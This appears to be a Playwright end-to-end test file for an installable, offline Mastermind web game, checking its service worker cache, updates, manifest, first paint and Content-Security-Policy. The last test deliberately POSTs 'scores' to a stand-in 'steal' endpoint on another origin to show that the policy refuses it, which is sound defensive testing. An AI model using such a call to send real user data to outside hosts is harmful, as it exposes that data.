// Installable and offline (SPEC 10, issue 15): the service worker, the manifest, the first paint,
// robots.txt and the Content-Security-Policy. The service worker is allowed here only (the
// other specs block it), and the tests that need one serve their own copy of dist/ on their own
// port, so that a "rebuild" changes nothing for the other tests.
import { test, expect, button, playRow, flag, revealedKey, expectNoAxeViolations, quitGame } from './fixtures';
import type { Page } from '@playwright/test';
import { spawn, type ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';

test.use({ serviceWorkers: 'allow' });

type Site = { url: string; dir: string; server: ChildProcess };

async function freePort(): Promise<number> {
  return new Promise((resolve) => {
    const s = net.createServer().listen(0, '127.0.0.1', () => {
      const port = (s.address() as net.AddressInfo).port;
      s.close(() => resolve(port));
    });
  });
}

/** Serves a fresh copy of dist/ the way a static host would. */
async function serveCopy(): Promise<Site> {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'mastermind-dist-'));
  fs.cpSync(path.resolve(__dirname, '../..', process.env.E2E_DIST ?? 'dist'), dir, { recursive: true });
  const port = await freePort();
  const server = spawn('node', [path.resolve(__dirname, 'serve.mjs'), dir, String(port)], { stdio: 'ignore' });
  const url = `http://127.0.0.1:${port}`;
  for (let i = 0; i < 50; i++) {
    try {
      if ((await fetch(url)).ok) break;
    } catch {
      await new Promise((r) => setTimeout(r, 100));
    }
  }
  return { url, dir, server };
}

function stop(site: Site) {
  site.server.kill();
  fs.rmSync(site.dir, { recursive: true, force: true });
}

/** Waits until the service worker controls the page and has cached the build. */
async function controlled(page: Page) {
  await expect
    .poll(() => page.evaluate(() => navigator.serviceWorker.controller !== null), { timeout: 15_000 })
    .toBe(true);
}

test('after one visit the game opens from a deep link and plays to a saved score offline', async ({ page, context }) => {
  const site = await serveCopy();
  try {
    await page.goto(`${site.url}/`);
    await expect(page.getByRole('link', { name: 'Play', exact: true })).toBeVisible();
    await controlled(page);
    // What is fetched ahead (issue 53): the whole game, not the programs that only hasten a first
    // arrival online; a quick board is kept once a page has used it.
    const cached = (file: string) =>
      page.evaluate(async (file) => {
        for (const key of await caches.keys()) if (await (await caches.open(key)).match(file)) return true;
        return false;
      }, file);
    await expect.poll(() => page.evaluate(async () => (await caches.keys()).length)).toBe(1);
    const whole = await page.evaluate(() => [...document.scripts].map((s) => s.textContent).join('').match(/mastermind-[0-9a-f]+_bg\.wasm/)?.[0]);
    expect(whole).toBeTruthy();
    await expect.poll(() => cached(`/${whole}`)).toBe(true);
    expect(await cached('/quick_bg.wasm')).toBe(false);
    expect(await cached('/home_bg.wasm')).toBe(false);
    await page.goto(`${site.url}/play/1?seed=3`);
    await expect(page.getByRole('button', { name: 'Row 1, hole 1: empty', exact: true })).toBeVisible();
    await expect.poll(() => cached('/quick_bg.wasm')).toBe(true);

    await context.setOffline(true);
    await page.goto(`${site.url}/`);
    await expect(page.getByRole('link', { name: 'Play', exact: true })).toBeVisible();
    // A deep link that was never visited online, with a seeded key; quitting shows the key.
    await page.goto(`${site.url}/play/2?seed=808`);
    await quitGame(page);
    const key = await revealedKey(page);
    await page.goto(`${site.url}/play/2?seed=808`);
    await expect(button(page, 'Row 1, hole 1: empty')).toBeVisible();
    await playRow(page, key);
    await expect(flag(page)).toHaveText(/^You won/);
    const dialog = page.getByRole('dialog', { name: 'New high score' });
    await dialog.getByRole('textbox', { name: 'Name' }).fill('Offline');
    await dialog.getByRole('button', { name: 'Save' }).click();
    await page.goto(`${site.url}/scores/2`);
    await expect(page.getByRole('table').getByText('Offline')).toBeVisible();
    // The solver's worker comes from the cache too.
    await page.goto(`${site.url}/play/1?seed=3`);
    await playRow(page, ['red', 'red', 'green', 'green']);
    await page.getByRole('checkbox', { name: 'Solver aids' }).click();
    await button(page, 'Turn on').click();
    await expect(page.getByText(/^Possible keys: \d+$/)).toBeVisible();
    // Every route opens offline, on whichever program serves it (issue 22).
    for (const [route, heading] of [
      ['/', 'Mastermind'],
      ['/daily/3', 'Daily key, level III'],
      ['/play/custom?pegs=3&colours=5&turns=6&repeats=yes', 'Custom game'],
      ['/rules', 'Rules'],
      ['/daily/past', 'Past daily keys'],
      ['/stats/1', 'Statistics'],
      ['/computer', 'The computer breaks your key'],
      ['/match', 'A match against the computer'],
      ['/two', 'Two players'],
      ['/data', 'Your data'],
    ]) {
      await page.goto(`${site.url}${route}`);
      await expect(page.getByRole('heading', { level: 1 }), route).toHaveText(heading);
      await expect(page.locator('#first-paint'), route).toHaveCount(0);
    }
    // Another language's words (a text the whole game fetches) come from the cache too.
    await page.getByRole('combobox', { name: 'Language' }).selectOption({ label: 'Français' });
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Vos données');
  } finally {
    await context.setOffline(false);
    stop(site);
  }
});

test('a rebuilt version is announced, and Reload brings it in without leaving an old cache', async ({ page }) => {
  const site = await serveCopy();
  try {
    await page.goto(`${site.url}/play/1`);
    await expect(button(page, 'Row 1, hole 1: empty')).toBeVisible();
    await controlled(page);
    const before = await page.evaluate(() => caches.keys());
    expect(before).toHaveLength(1);
    await expect(page.getByText('A new version is ready')).toHaveCount(0);

    // A rebuild: a changed file gives the service worker a new version.
    const swPath = path.join(site.dir, 'sw.js');
    const sw = fs.readFileSync(swPath, 'utf8');
    fs.writeFileSync(swPath, sw.replace(/const VERSION = '([0-9a-f]+)'/, "const VERSION = '$1-rebuilt'"));
    fs.appendFileSync(path.join(site.dir, 'robots.txt'), '# rebuilt\n');
    await playRow(page, ['red', 'green', 'blue', 'yellow']);
    await page.evaluate(() => navigator.serviceWorker.getRegistration().then((r) => r?.update()));

    // The game goes on untouched until the player chooses to reload.
    await expect(page.getByText('A new version is ready')).toBeVisible({ timeout: 15_000 });
    await expect(page.getByText(/^Row 1: \d black, \d white$/)).toBeAttached();
    await expectNoAxeViolations(page, 'the update notice');
    await button(page, 'Reload').click();
    await expect(page.getByText('A new version is ready')).toHaveCount(0);
    await expect(page.getByText(/^Row 1: \d black, \d white$/)).toBeAttached();
    await expect.poll(() => page.evaluate(() => caches.keys())).toEqual([expect.stringMatching(/-rebuilt$/)]);
  } finally {
    stop(site);
  }
});

test('the manifest parses and its icons have the declared sizes; robots.txt is text', async ({ request, baseURL }) => {
  const at = new URL('/manifest.webmanifest', baseURL);
  const manifest = await (await request.get(at.href)).json();
  expect(manifest).toMatchObject({ name: 'Mastermind', short_name: 'Mastermind', display: 'standalone' });
  // Relative to the manifest, so that a build under any base starts and stays there (SPEC §19).
  expect(new URL(manifest.start_url, at).pathname).toBe('/');
  expect(new URL(manifest.scope, at).pathname).toBe('/');
  expect(manifest.theme_color).toMatch(/^#[0-9a-f]{6}$/);
  expect(manifest.background_color).toMatch(/^#[0-9a-f]{6}$/);
  expect(manifest.icons.map((i: { purpose: string }) => i.purpose)).toEqual(['any', 'any', 'maskable']);
  for (const icon of manifest.icons) {
    const response = await request.get(new URL(icon.src, at).href);
    expect(response.headers()['content-type']).toBe('image/png');
    const png = await response.body();
    // A PNG's IHDR chunk: width and height as big-endian numbers at bytes 16 and 20.
    expect(`${png.readUInt32BE(16)}x${png.readUInt32BE(20)}`).toBe(icon.sizes);
  }
  const robots = await request.get('/robots.txt');
  expect(robots.headers()['content-type']).toMatch(/^text\/plain/);
  expect(await robots.text()).toMatch(/^User-agent: \*/m);
});

test('the first paint in index.html shows the title the mounted app shows', async ({ page, request }) => {
  const html = await (await request.get('/')).text();
  // The release build's HTML is minified: attributes may lose their quotes.
  const painted = html.match(/<div id="?first-paint"?>[\s\S]*?<h1>([^<]+)<\/h1>/)?.[1];
  expect(painted).toBe('Mastermind');
  await page.goto('/');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(painted!);
  await expect(page.locator('#first-paint')).toHaveCount(0);
  await expect(page.getByRole('banner')).toHaveCount(1);
});

// Issue 22: before the WebAssembly, each page's first paint is its own (seen here with the
// programs' wasm never answered), in the stored language; the program then replaces it.
for (const [path, snapshot] of [
  ['/play/1?seed=42', '- heading "Level I" [level=1]\n- paragraph: Find the key of 4 pegs drawn from 6 colours in 8 turns.\n- paragraph: Loading…'],
  ['/daily/3', '- heading "Daily key, level III" [level=1]\n- paragraph: Find the key of 6 pegs drawn from 8 colours in 12 turns.\n- paragraph: Loading…'],
  ['/play/custom?pegs=3&colours=5&turns=6&repeats=yes', '- heading "Custom game" [level=1]\n- paragraph: Find the key of 3 pegs drawn from 5 colours in 6 turns.\n- paragraph: Loading…'],
  // The Rules' own first paint (issue 43: tests/e2e/pages_paint.spec.ts): their words.
  ['/rules', '- heading "Rules" [level=1]\n- paragraph:\n  - link "Learn to play"\n- region "Summary":\n  - heading "Summary" [level=2]'],
  ['/stats/1', '- heading "Loading…" [level=1]'],
]) {
  test(`the first paint of ${path} is its own page's, and names no other`, async ({ page }) => {
    await page.route(/\.wasm(\?.*)?$/, () => {}); // never answered
    await page.goto(path);
    await expect(page.getByRole('main')).toMatchAriaSnapshot(snapshot);
    await expect(page.locator('html')).toHaveAttribute('lang', 'en');
    if (path.includes('play')) {
      const rows = path.includes('custom') ? 6 : 8;
      const pegs = path.includes('custom') ? 3 : 4;
      await expect(page.locator('#first-paint .board .row')).toHaveCount(rows);
      await expect(page.locator('#first-paint .board .hole')).toHaveCount(rows * pegs);
    }
    await expectNoAxeViolations(page, `the first paint of ${path}`);
  });
}

test('the first paint speaks the stored language, and the program takes its place', async ({ page }) => {
  await page.addInitScript(() => localStorage.setItem('mastermind.v1.settings', '{"version":1,"language":"pt"}'));
  await page.route(/\.wasm(\?.*)?$/, () => {}); // never answered
  await page.goto('/play/2');
  await expect(page.getByRole('main')).toMatchAriaSnapshot('- heading "Nível II" [level=1]\n- paragraph: Descobre a chave de 5 pinos, tirada de 7 cores, em 10 jogadas.\n- paragraph: A carregar…');
  await expect(page.locator('html')).toHaveAttribute('lang', 'pt');
  await page.unroute(/\.wasm(\?.*)?$/);
  await page.reload();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Nível II');
  await expect(page.locator('#first-paint')).toHaveCount(0);
  await expect(page.getByRole('button', { name: 'Linha 1, buraco 1: vazio' })).toBeVisible();
});

test('the CSP lets nothing leave the page, and no page breaks it', async ({ page, consoleErrors }) => {
  await page.addInitScript(() => {
    const w = window as unknown as { violations: string[] };
    w.violations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  const violations = () => page.evaluate(() => (window as unknown as { violations: string[] }).violations);
  for (const route of ['/', '/play', '/play/1', '/play/3', '/daily', '/custom', '/scores/1', '/stats/1', '/rules', '/computer', '/match', '/nowhere']) {
    await page.goto(route);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(await violations(), route).toEqual([]);
  }
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toContain("connect-src 'self'");
  expect(csp).toContain("object-src 'none'");
  expect(csp).not.toContain('unsafe-inline');
  // A script trying to send something to another origin is refused by the browser.
  const outcome = await page.evaluate(() =>
    fetch('http://127.0.0.2:9/steal', { method: 'POST', body: 'scores' }).then(
      () => 'sent',
      () => 'refused',
    ),
  );
  expect(outcome).toBe('refused');
  await expect.poll(violations).toEqual(['connect-src http://127.0.0.2:9/steal']);
  // The browser reports the refusal on the console: that one is expected.
  const others = consoleErrors.filter((e) => !/Content Security Policy|127\.0\.0\.2/.test(e));
  consoleErrors.length = 0;
  expect(others).toEqual([]);
});
